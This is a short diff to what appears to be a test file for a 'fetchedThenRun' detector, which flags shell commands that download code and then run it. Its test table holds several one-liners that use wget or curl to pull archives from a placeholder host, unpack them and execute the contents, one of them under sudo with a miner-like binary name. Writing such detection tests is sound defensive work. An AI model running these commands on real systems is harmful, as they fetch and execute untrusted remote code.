@@ -98,6 +98,7 @@ describe('fetchedThenRun over a reading', () => {
       ['wget -qO- http://h/t.tgz | sudo tar -xzf - -C /usr/local && /usr/local/bin/kdevtmpfsi', ['wget']],
       ['curl -sL http://h/t.tgz | gunzip | tar x && ./t/run', ['curl']],
       ['wget -O /tmp/k.tar http://h/k.tar; tar x < /tmp/k.tar; ./k/run', ['wget']],
+      ['wget -O /tmp/k.tar http://h/k.tar; < /tmp/k.tar tar x -C /opt; /opt/k/run', ['wget']],
       ['curl -o /tmp/a.zip http://h/a.zip; unzip -oq /tmp/a.zip -d /tmp/a; sh /tmp/a/i.sh', ['curl']],
       ['curl -o a.zip http://h/a.zip && unzip a.zip && python3 a/main.py', ['curl']],
       ['curl -o /tmp/a.7z http://h/a.7z && 7z x /tmp/a.7z -o/tmp/a && /tmp/a/r', ['curl']],
